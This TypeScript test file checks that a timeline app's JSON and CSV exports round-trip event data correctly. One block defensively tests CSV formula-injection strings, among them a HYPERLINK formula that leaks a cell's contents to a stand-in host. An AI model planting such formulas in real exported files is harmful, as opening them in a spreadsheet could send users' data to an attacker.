import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { csvParseRows } from 'd3-dsv';
import { describe, expect, it } from 'vitest';
import { parseCsvText, parseJsonText, type LoadResult } from './parse-store.ts';
import type { Dataset, TimelineEvent } from './schema.ts';
import { storeCsvText, storeJsonText, storeOf } from './store-json.ts';

const read = (file: string) => readFileSync(resolve(__dirname, '../../public/data', file), 'utf8');

function ready(result: LoadResult): Dataset {
  if (result.status !== 'ready') throw new Error(`did not load: ${result.message}`);
  expect(result.problems).toEqual([]);
  return result.dataset;
}

const seed = ready(parseJsonText(read('trump-russia.json'), 'trump-russia.json'));
const fromCsv = ready(parseCsvText(read('template.csv'), 'template.csv'));

const subsets: [string, (e: TimelineEvent) => boolean][] = [
  ['every event', () => true],
  ['one topic', (e) => e.topics.includes('nato')],
  ['spans and seasons', (e) => e.date.precision === 'span' || e.date.precision === 'season'],
  ['one event', (e) => e.id === seed.events[3]?.id],
];

describe.each([
  ['JSON', storeJsonText, (text: string) => parseJsonText(text, 'export.json')],
  ['CSV', storeCsvText, (text: string) => parseCsvText(text, 'export.csv')],
])('events exported as %s', (_, write, parse) => {
  it.each(subsets)('load back as the same events: %s', (__, keep) => {
    for (const dataset of [seed, fromCsv]) {
      const shown = dataset.events.filter(keep);
      expect(shown.length).toBeGreaterThan(0);
      const back = ready(parse(write(dataset, shown)));
      expect(back.events).toEqual(shown);
    }
  });

  it('carry the title, description, note and source', () => {
    const back = ready(parse(write(seed, seed.events.slice(0, 2))));
    expect(back).toMatchObject({
      title: seed.title,
      description: seed.description,
      note: seed.note,
      source: seed.source,
    });
    expect(seed.source?.publisher).toBeTruthy();
  });

  it('keep dates as written: a span from a year, a label only where the author gave one', () => {
    const store = {
      version: 1,
      title: 'Dates',
      topics: [{ id: 't', label: 'T', color: '#1d4ed8' }],
      events: [
        {
          id: 'a',
          title: 'A',
          date: { precision: 'span', start: '2016', end: '2017-03' },
          topics: ['t'],
        },
        {
          id: 'b',
          title: 'B',
          date: { precision: 'month', start: '2016-05', label: 'Late spring 2016' },
          topics: ['t'],
        },
      ],
    };
    const dataset = ready(parseJsonText(JSON.stringify(store), 'dates.json'));
    const again = ready(parse(write(dataset, dataset.events)));
    expect(again.events.map((e) => e.writtenDate)).toEqual([
      { precision: 'span', start: '2016', end: '2017-03' },
      { precision: 'month', start: '2016-05', label: 'Late spring 2016' },
    ]);
    expect(again.events.map((e) => e.date.label)).toEqual([
      '2016 – March 2017',
      'Late spring 2016',
    ]);
  });
});

describe('events exported as CSV', () => {
  const FORMULAS = [
    '=HYPERLINK("http://x.test/?leak="&A1,"Click")',
    '+1+1',
    '-2',
    '@SUM(A1)',
    '\tTab',
    "'=quoted",
  ];
  const hostile = {
    version: 1,
    title: FORMULAS[0],
    description: FORMULAS[1],
    topics: [{ id: 't', label: FORMULAS[2], color: '#1d4ed8' }],
    events: [
      {
        id: 'a',
        title: FORMULAS[0],
        summary: FORMULAS[3],
        dateNote: FORMULAS[4],
        date: { precision: 'day', start: '2016-05-01' },
        topics: ['t'],
        people: [FORMULAS[1], FORMULAS[5]],
        quotes: [{ text: FORMULAS[2], speaker: FORMULAS[3] }],
        sources: [{ name: FORMULAS[4], url: 'https://example.com/' }],
      },
    ],
  };
  const dataset = ready(parseJsonText(JSON.stringify(hostile), 'hostile.json'));
  const csv = storeCsvText(dataset, dataset.events);

  it('hold no cell a spreadsheet would run as a formula', () => {
    const cells = csvParseRows(csv.trimEnd()).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain('\'=HYPERLINK("http://x.test/?leak="&A1,"Click")');
  });

  it('read back to the text as it was', () => {
    const back = ready(parseCsvText(csv, 'hostile.csv'));
    expect(back.title).toBe(dataset.title);
    expect(back.description).toBe(dataset.description);
    expect(back.topics.map((t) => t.label)).toEqual([FORMULAS[2]]);
    expect(back.events).toEqual(dataset.events);
  });
});

describe('storeOf', () => {
  it('declares the topics the events name, in the dataset order', () => {
    const shown = seed.events.filter((e) => e.topics.length === 1 && e.topics[0] === 'nato');
    expect(storeOf(seed, shown).topics.map((t) => t.id)).toEqual(['nato']);
  });

  it('declares every topic when there is no event, as a store must declare one', () => {
    expect(storeOf(seed, []).topics).toHaveLength(seed.topics.length);
    expect(ready(parseJsonText(storeJsonText(seed, []), 'none.json')).events).toEqual([]);
  });

  it('writes the store fields and leaves out what is empty', () => {
    const event = seed.events.find((e) => e.people.length === 0 && !e.dateNote)!;
    const [written] = storeOf(seed, [event]).events;
    expect(written).not.toHaveProperty('people');
    expect(written).not.toHaveProperty('dateNote');
    expect(Object.keys(written!.date).sort()).toEqual(
      Object.keys(event.writtenDate)
        .filter((k) => event.writtenDate[k as keyof typeof event.writtenDate] !== undefined)
        .sort(),
    );
  });
});
